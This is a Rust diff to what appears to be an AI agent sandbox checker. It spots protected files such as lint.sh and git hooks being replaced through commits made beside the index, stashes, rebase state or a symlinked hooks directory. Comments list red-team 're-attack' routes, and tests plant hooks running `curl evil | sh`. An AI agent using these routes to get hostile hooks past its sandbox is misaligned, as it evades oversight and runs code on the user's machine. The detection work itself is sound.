@@ -43,8 +43,6 @@ struct Recorded {
     entries: HashSet<u64>,
     /// The replace refs `packed-refs` held.
     packed_replacements: HashSet<String>,
-    /// What each ref (and `HEAD`) named.
-    refs: HashMap<String, Vec<u8>>,
     /// The files and directories of the worktree the agent could not write (read-only binds).
     protected: Vec<PathBuf>,
     /// The object names the index gave the entries below them.
@@ -106,8 +104,6 @@ impl IndexSnapshot {
                 worktree: worktree.clone(),
                 entries,
                 packed_replacements,
-                // Only where there is something to look for at the exit.
-                refs: if protected.is_empty() { HashMap::new() } else { objects::refs(git_dir) },
                 protected,
                 protected_entries,
             });
@@ -170,20 +166,15 @@ impl IndexSnapshot {
                 }
             }
             // A commit made beside the index (`commit-tree`, `update-ref`), a branch moved, a
-            // stash the agent pushed: the entries are as they were, and the user's `reset --hard`,
-            // `checkout` or `stash pop` writes what the commit holds. Each ref that moved is
-            // followed through the commits the session made, and what each holds of the
-            // protected files is looked up in its tree.
-            let moved: Vec<Vec<u8>> = if recorded.protected.is_empty() {
-                Vec::new()
-            } else {
-                let now = objects::refs(&recorded.git_dir);
-                now.into_iter().filter(|(name, id)| recorded.refs.get(name) != Some(id)).map(|(_, id)| id).collect()
-            };
-            if !moved.is_empty() {
+            // stash, a rebase's or a merge's saved state, a reflog's line, a tag: whatever names
+            // it, the user's `reset --hard`, `checkout -`, `stash pop` or `rebase --abort` writes
+            // what the commit holds. So every commit the session made is looked at, named or not
+            // (the thirty-sixth re-attack found eleven ways to name one), and what its tree holds
+            // of the protected files is compared with them.
+            if !recorded.protected.is_empty() {
                 let objects = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
                 let objects = objects::Objects::new(objects.join("objects"), hash_len, self.launched);
-                match objects.new_trees(moved) {
+                match objects.new_commit_trees() {
                     Ok(trees) => {
                         for tree in trees {
                             for bound in &recorded.protected {
@@ -222,7 +213,7 @@ impl IndexSnapshot {
 /// Whether `object_name` (an index entry's, or a tree's) is not a version git could have stored
 /// of the file at `path` as it is: `None` when it could not be told (the budgets spent, the
 /// file unreadable). A file not there is: git would write the version into it (the agent could
-/// not have removed it, nor made it).
+/// not have removed it, nor made it); so is a directory.
 fn holds_another_version(
     path: &Path,
     object_name: &[u8],
@@ -241,7 +232,9 @@ fn holds_another_version(
     } else if metadata.is_file() {
         git::read_capped(path, false, metadata.len()).ok()?
     } else {
-        return Some(false);
+        // A file or a link in git where a directory is (the thirty-sixth re-attack's H9: the
+        // hooks directory replaced by a link to the agent's) is another version too.
+        return Some(metadata.is_dir());
     };
     Some(!stored_forms(&content).any(|form| blob_name(&form, hash_len) == object_name))
 }
@@ -369,108 +362,8 @@ mod objects {
     /// Files below one protected directory looked at, at most.
     const MAX_FILES: usize = 10_000;
 
-    /// The object name (raw bytes) of the commit `git_dir`'s `HEAD` names, through a branch's
-    /// loose ref or `packed-refs`; `None` for an unborn branch or what cannot be read.
-    pub fn head(git_dir: &Path) -> Option<Vec<u8>> {
-        let common = git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf());
-        let mut text = git::read_limited(&git_dir.join("HEAD"), true).ok()?;
-        // A symbolic ref may name another (at most a few hops, as git allows).
-        for _ in 0..5 {
-            let line = String::from_utf8_lossy(&text).trim_end().to_string();
-            let Some(name) = line.strip_prefix("ref: ") else { return hex::decode(line).ok() };
-            let name = name.trim();
-            if name.contains("..") {
-                return None;
-            }
-            let dir = if name.starts_with("refs/") { &common } else { git_dir };
-            text = match git::read_limited(&dir.join(name), true) {
-                Ok(text) => text,
-                Err(_) => {
-                    let packed = git::read_limited(&common.join("packed-refs"), true).ok()?;
-                    let packed = String::from_utf8_lossy(&packed).into_owned();
-                    let found = packed.lines().find_map(|line| {
-                        let (id, named) = line.split_once(' ')?;
-                        (named == name).then(|| id.to_string())
-                    })?;
-                    return hex::decode(found).ok();
-                }
-            };
-        }
-        None
-    }
-
-    /// Refs listed at most, and commits followed from those that moved.
-    const MAX_REFS: usize = 100_000;
-    const MAX_COMMITS: usize = 1_000;
-
-    /// What each ref of `git_dir`'s repository names (`packed-refs`, then the loose refs over
-    /// them), and `HEAD`: object names as raw bytes.
-    pub fn refs(git_dir: &Path) -> std::collections::HashMap<String, Vec<u8>> {
-        let common = git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf());
-        let mut refs = std::collections::HashMap::new();
-        if let Ok(packed) = git::read_limited(&common.join("packed-refs"), true) {
-            for line in String::from_utf8_lossy(&packed).lines().filter(|line| !line.starts_with(['#', '^'])) {
-                if let Some((id, name)) = line.split_once(' ')
-                    && let Ok(id) = hex::decode(id)
-                {
-                    refs.insert(name.to_string(), id);
-                }
-            }
-        }
-        let mut dirs = vec![(common.join("refs"), "refs".to_string())];
-        let mut seen = 0;
-        while let Some((dir, name)) = dirs.pop() {
-            for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
-                seen += 1;
-                if seen > MAX_REFS {
-                    return refs;
-                }
-                let named = format!("{name}/{}", entry.file_name().to_string_lossy());
-                match entry.file_type() {
-                    Ok(kind) if kind.is_dir() => dirs.push((entry.path(), named)),
-                    Ok(kind) if kind.is_file() => {
-                        let text = git::read_limited(&entry.path(), false).unwrap_or_default();
-                        if let Ok(id) = hex::decode(String::from_utf8_lossy(&text).trim()) {
-                            refs.insert(named, id);
-                        }
-                    }
-                    _ => {}
-                }
-            }
-        }
-        if let Some(head) = head(git_dir) {
-            refs.insert("HEAD".to_string(), head);
-        }
-        // What git's commands check out besides refs: `git reset --hard ORIG_HEAD`, a merge's
-        // or a cherry-pick's heads, `git rebase --abort` (its `orig-head`) and what a rebase
-        // goes on from (`onto`), each of this worktree's git directory.
-        for name in PSEUDO_REFS {
-            let Ok(text) = git::read_limited(&git_dir.join(name), false) else { continue };
-            let text = String::from_utf8_lossy(&text);
-            for (n, line) in text.lines().enumerate().take(64) {
-                let id = line.split_whitespace().next().unwrap_or_default();
-                if let Ok(id) = hex::decode(id) {
-                    refs.insert(format!("{name}#{n}"), id);
-                }
-            }
-        }
-        refs
-    }
-
-    /// The files of a git directory naming commits that git's commands check out, not refs.
-    const PSEUDO_REFS: [&str; 11] = [
-        "ORIG_HEAD",
-        "FETCH_HEAD",
-        "MERGE_HEAD",
-        "CHERRY_PICK_HEAD",
-        "REVERT_HEAD",
-        "AUTO_MERGE",
-        "BISECT_HEAD",
-        "rebase-merge/orig-head",
-        "rebase-merge/onto",
-        "rebase-apply/orig-head",
-        "rebase-apply/onto",
-    ];
+    /// Loose objects made in the session looked at, at most.
+    const MAX_NEW_OBJECTS: usize = 200_000;
 
     /// A moment a little before the launch, in nanoseconds as file times read it (the kernel
     /// stamps files from a coarse clock, which can be a few ticks behind the time read here).
@@ -541,6 +434,13 @@ mod objects {
             }
             for part in &parts {
                 if mode != b"40000" {
+                    // A file or a link where a directory of the path is: checked out, it takes
+                    // the protected path's place (a link to a directory of the agent's hooks).
+                    if matches!(mode.as_slice(), b"100644" | b"100755" | b"120000" | b"100664")
+                        && let Found::New(_) = self.read(&object, b"blob")?
+                    {
+                        visit(relative, &object);
+                    }
                     return Ok(());
                 }
                 let Found::New(body) = self.read(&object, b"tree")? else { return Ok(()) };
@@ -551,32 +451,36 @@ mod objects {
             self.visit_below(relative.to_path_buf(), &mode, &object, 0, &mut left, &mut visit)
         }
 
-        /// The trees of the commits made in the session that `tips` reach (through the parents
-        /// the session made too), at most [`MAX_COMMITS`]; `Err` when one could not be read or
-        /// told, or there were more. A tip that is not a commit (a tag) is passed over.
-        pub fn new_trees(&self, tips: Vec<Vec<u8>>) -> Result<Vec<Vec<u8>>, ()> {
-            let (mut trees, mut seen) = (Vec::new(), std::collections::HashSet::new());
-            let mut queue = tips;
-            while let Some(commit) = queue.pop() {
-                if !seen.insert(commit.clone()) {
+        /// The trees of the commits made in the session, each object file made since the
+        /// launch looked at (at most [`MAX_NEW_OBJECTS`]); `Err` when there were more, one could
+        /// not be read, or a pack or alternate changed (what is in it cannot be told here).
+        pub fn new_commit_trees(&self) -> Result<Vec<Vec<u8>>, ()> {
+            if self.packs_changed {
+                return Err(());
+            }
+            let mut trees = Vec::new();
+            let mut left = MAX_NEW_OBJECTS;
+            for fan in std::fs::read_dir(&self.dir).map_err(|_| ())?.flatten() {
+                let prefix = fan.file_name();
+                let prefix = prefix.to_string_lossy();
+                if prefix.len() != 2 || !prefix.bytes().all(|byte| byte.is_ascii_hexdigit()) {
                     continue;
                 }
-                if seen.len() > MAX_COMMITS {
-                    return Err(());
-                }
-                let body = match self.read(&commit, b"commit") {
-                    Ok(Found::New(body)) => body,
-                    Ok(Found::Old) | Err(Wrong::Kind) => continue,
-                    Err(Wrong::Unread) => return Err(()),
-                };
-                let text = String::from_utf8_lossy(&body);
-                for line in text.lines().take_while(|line| !line.is_empty()) {
-                    let (key, value) = line.split_once(' ').unwrap_or((line, ""));
-                    match (key, hex::decode(value)) {
-                        ("tree", Ok(tree)) => trees.push(tree),
-                        ("parent", Ok(parent)) => queue.push(parent),
-                        _ => {}
+                for object in std::fs::read_dir(fan.path()).into_iter().flatten().flatten() {
+                    let path = object.path();
+                    if !changed_since(&path, self.launched) {
+                        continue;
                     }
+                    left = left.checked_sub(1).ok_or(())?;
+                    let rest = object.file_name();
+                    let Ok(id) = hex::decode(format!("{prefix}{}", rest.to_string_lossy())) else { continue };
+                    // Only its header is inflated unless it is a commit.
+                    if kind(&path)? != b"commit" {
+                        continue;
+                    }
+                    let Found::New(body) = self.read(&id, b"commit")? else { continue };
+                    let tree = body.strip_prefix(b"tree ").and_then(|rest| rest.get(..2 * self.hash_len)).ok_or(())?;
+                    trees.push(hex::decode(tree).map_err(|_| ())?);
                 }
             }
             Ok(trees)
@@ -645,6 +549,24 @@ mod objects {
             }
             Ok(Found::New(object.split_off(nul + 1)))
         }
+    }
+
+    /// The kind a loose object's header names (`commit`, `tree`, `blob`, `tag`), inflating no more
+    /// than the header.
+    fn kind(path: &Path) -> Result<Vec<u8>, ()> {
+        let file = std::fs::File::open(path).map_err(|_| ())?;
+        let mut header = [0u8; 16];
+        let mut decoder = flate2::read::ZlibDecoder::new(file);
+        let mut filled = 0;
+        while filled < header.len() {
+            match decoder.read(&mut header[filled..]) {
+                Ok(0) => break,
+                Ok(n) => filled += n,
+                Err(_) => return Err(()),
+            }
+        }
+        let header = &header[..filled];
+        Ok(header[..header.iter().position(|&byte| byte == b' ').ok_or(())?].to_vec())
     }
 
     /// The mode and object name of `name`'s entry in a tree's body.
@@ -777,11 +699,34 @@ mod tests {
         Some(String::from_utf8(output.stdout).unwrap().trim().to_string())
     }
 
-    /// The thirty-fifth re-attack's G13: the index and the objects are the agent's to write, so it
-    /// stages, or commits beside the index, a version of a file it could not write (`lint.sh`, a
-    /// hook's script, read-only in the session); the user's `git restore` or `git stash` then
-    /// writes it into the file. Named either way; a version that is the file's is not, nor a
-    /// change to a file the agent could write; a `HEAD` whose objects were packed is unchecked.
+    /// A commit of `HEAD`'s tree with `entries` changed (a `--cacheinfo` each, or the path removed
+    /// when it is empty), made as the agent makes one: through an index of its own, `commit-tree`,
+    /// no ref moved.
+    fn plant(repo: &Path, entries: &[(&str, &str)]) -> String {
+        let scratch = repo.join(".git/scratch-index");
+        let env = [("GIT_INDEX_FILE", scratch.as_path())];
+        assert!(git_out(repo, &["read-tree", "HEAD"], &env).is_some());
+        for (path, entry) in entries {
+            let args: Vec<&str> = match *entry {
+                "" => vec!["update-index", "--force-remove", path],
+                _ => vec!["update-index", "--add", "--cacheinfo", entry],
+            };
+            assert!(git_out(repo, &args, &env).is_some(), "{args:?}");
+        }
+        let tree = git_out(repo, &["write-tree"], &env).unwrap();
+        std::fs::remove_file(&scratch).unwrap();
+        let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
+        git_out(repo, &[&author[..], &["commit-tree", &tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
+    }
+
+    /// The thirty-fifth re-attack's G13 and the thirty-sixth's H1–H12: the index and the objects are
+    /// the agent's to write, so it stages, or commits beside the index, a version of a file it could
+    /// not write (`lint.sh`, a hook's script; `githooks/`), named by a ref, a stash, a rebase's or a
+    /// merge's saved state, a reflog line, a tag, or nothing yet; the user's `git restore`, `stash
+    /// pop`, `checkout -` or `rebase --abort` then writes it into the file. Every such commit is
+    /// named, whatever names it; a version that is the file's is not, nor the user's own
+    /// uncommitted change, nor a change to a file the agent could write; a pack made in the
+    /// session makes the look unchecked.
     #[test]
     fn another_version_of_a_protected_file_staged_or_committed_is_named() {
         let Some((_temp, repo)) = repository() else { return };
@@ -797,9 +742,9 @@ mod tests {
         let protected = [repo.join("lint.sh"), repo.join("githooks")];
         let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &protected);
         let original = git_out(&repo, &["rev-parse", ":lint.sh"], &[]).unwrap();
-        let original_head = git_out(&repo, &["rev-parse", "HEAD"], &[]).unwrap();
+
         // In the open: the file staged as it is, a file the agent could write changed and
-        // committed (HEAD moves; the user's change to the hook is theirs), the index refreshed.
+        // committed (the user's change to the hook is theirs), the index refreshed.
         assert!(git(&repo, &["add", "lint.sh"]));
         std::fs::write(repo.join("README"), "changed\n").unwrap();
         assert!(git(&repo, &["add", "README"]));
@@ -815,66 +760,29 @@ mod tests {
         std::fs::remove_file(&evil).unwrap();
         assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100755,{planted},lint.sh")]));
         assert_eq!(snapshot.hidden().staged, vec![repo.join("lint.sh")]);
-
-        // Committed beside the index: the entry put back, HEAD moved to a tree holding it.
         assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100644,{original},lint.sh")]));
         assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new(), "the entry is the file's again");
-        let scratch = repo.join(".git/scratch-index");
-        let env = [("GIT_INDEX_FILE", scratch.as_path())];
-        assert!(git_out(&repo, &["read-tree", "HEAD"], &env).is_some());
-        assert!(git_out(&repo, &["update-index", "--cacheinfo", &format!("100755,{planted},lint.sh")], &env).is_some());
-        let tree = git_out(&repo, &["write-tree"], &env).unwrap();
-        let commit = git_out(
-            &repo,
-            &["-c", "user.name=U", "-c", "user.email=u@x", "commit-tree", &tree, "-p", "HEAD", "-m", "x"],
-            &[],
-        )
-        .unwrap();
-        assert!(git(&repo, &["update-ref", "HEAD", &commit]));
-        assert_eq!(snapshot.hidden().staged, vec![repo.join("lint.sh")]);
-        // A hook the protected directory does not hold, committed beside the index too: the
-        // user's checkout would add it.
-        let added = format!("100755,{planted},githooks/post-checkout");
-        assert!(git_out(&repo, &["update-index", "--add", "--cacheinfo", &added], &env).is_some());
-        let tree = git_out(&repo, &["write-tree"], &env).unwrap();
-        let commit = git_out(
-            &repo,
-            &["-c", "user.name=U", "-c", "user.email=u@x", "commit-tree", &tree, "-p", "HEAD", "-m", "y"],
-            &[],
-        )
-        .unwrap();
+
+        // Committed beside the index, named by nothing yet (a reflog line, a rebase's `orig-head`,
+        // an autostash, a tag, a later session's ref could name it): a hook the protected
+        // directory does not hold, which a checkout would add.
+        plant(&repo, &[("githooks/post-checkout", &format!("100755,{planted},githooks/post-checkout"))]);
+        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout")]);
+        // On HEAD: the user's `git stash` installs it.
+        let commit = plant(&repo, &[("lint.sh", &format!("100755,{planted},lint.sh"))]);
         assert!(git(&repo, &["update-ref", "HEAD", &commit]));
         assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout"), repo.join("lint.sh")]);
-        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
-        // What the user's git would do with it.
-        assert!(git(&repo, &["stash"]));
+        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "stash", "-q"]));
         assert!(std::fs::read_to_string(repo.join("lint.sh")).unwrap().contains("curl evil"));
         std::fs::write(repo.join("lint.sh"), "#!/bin/sh\n").unwrap();
+        // The protected directory replaced by a link to a directory of the agent's (H9).
+        std::fs::write(repo.join("target"), "evil/hooks").unwrap();
+        let target = git_out(&repo, &["hash-object", "-w", "target"], &[]).unwrap();
+        std::fs::remove_file(repo.join("target")).unwrap();
+        plant(&repo, &[("githooks/pre-commit", ""), ("githooks", &format!("120000,{target},githooks"))]);
+        assert!(snapshot.hidden().staged.contains(&repo.join("githooks")), "{:?}", snapshot.hidden());
 
-        // A stash holding another version (made here by stashing a change the agent could not
-        // have written; it makes one with `commit-tree` and `stash store`): the user's
-        // `git stash pop` would write it.
-        assert!(git(&repo, &["stash", "drop", "-q"]));
-        assert!(git(&repo, &["reset", "-q", "--hard"]));
-        assert!(git(&repo, &["update-ref", "HEAD", &original_head]));
-        assert!(git(&repo, &["reset", "-q", "--hard"]));
-        assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new(), "back as it was: {:?}", snapshot.hidden());
-        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
-        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "stash", "-q"]));
-        assert_eq!(std::fs::read_to_string(repo.join("githooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
-        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/pre-commit")]);
-        // A rebase left in progress whose `orig-head` is such a commit: the user's `git rebase
-        // --abort` checks it out.
-        assert!(git(&repo, &["stash", "drop", "-q"]));
-        assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new());
-        std::fs::create_dir_all(repo.join(".git/rebase-merge")).unwrap();
-        std::fs::write(repo.join(".git/rebase-merge/orig-head"), format!("{commit}\n")).unwrap();
-        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout"), repo.join("lint.sh")]);
-        std::fs::remove_dir_all(repo.join(".git/rebase-merge")).unwrap();
-        std::fs::write(repo.join(".git/ORIG_HEAD"), format!("{commit}\n")).unwrap();
-        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout"), repo.join("lint.sh")]);
-
-        // Packed, what a moved ref names cannot be read here: unchecked, not passed over.
+        // Packed in the session, what the objects hold cannot be read here: unchecked, not passed over.
         assert!(git(&repo, &["repack", "-a", "-d", "-q"]));
         assert!(git(&repo, &["prune-packed"]));
         let hidden = snapshot.hidden();
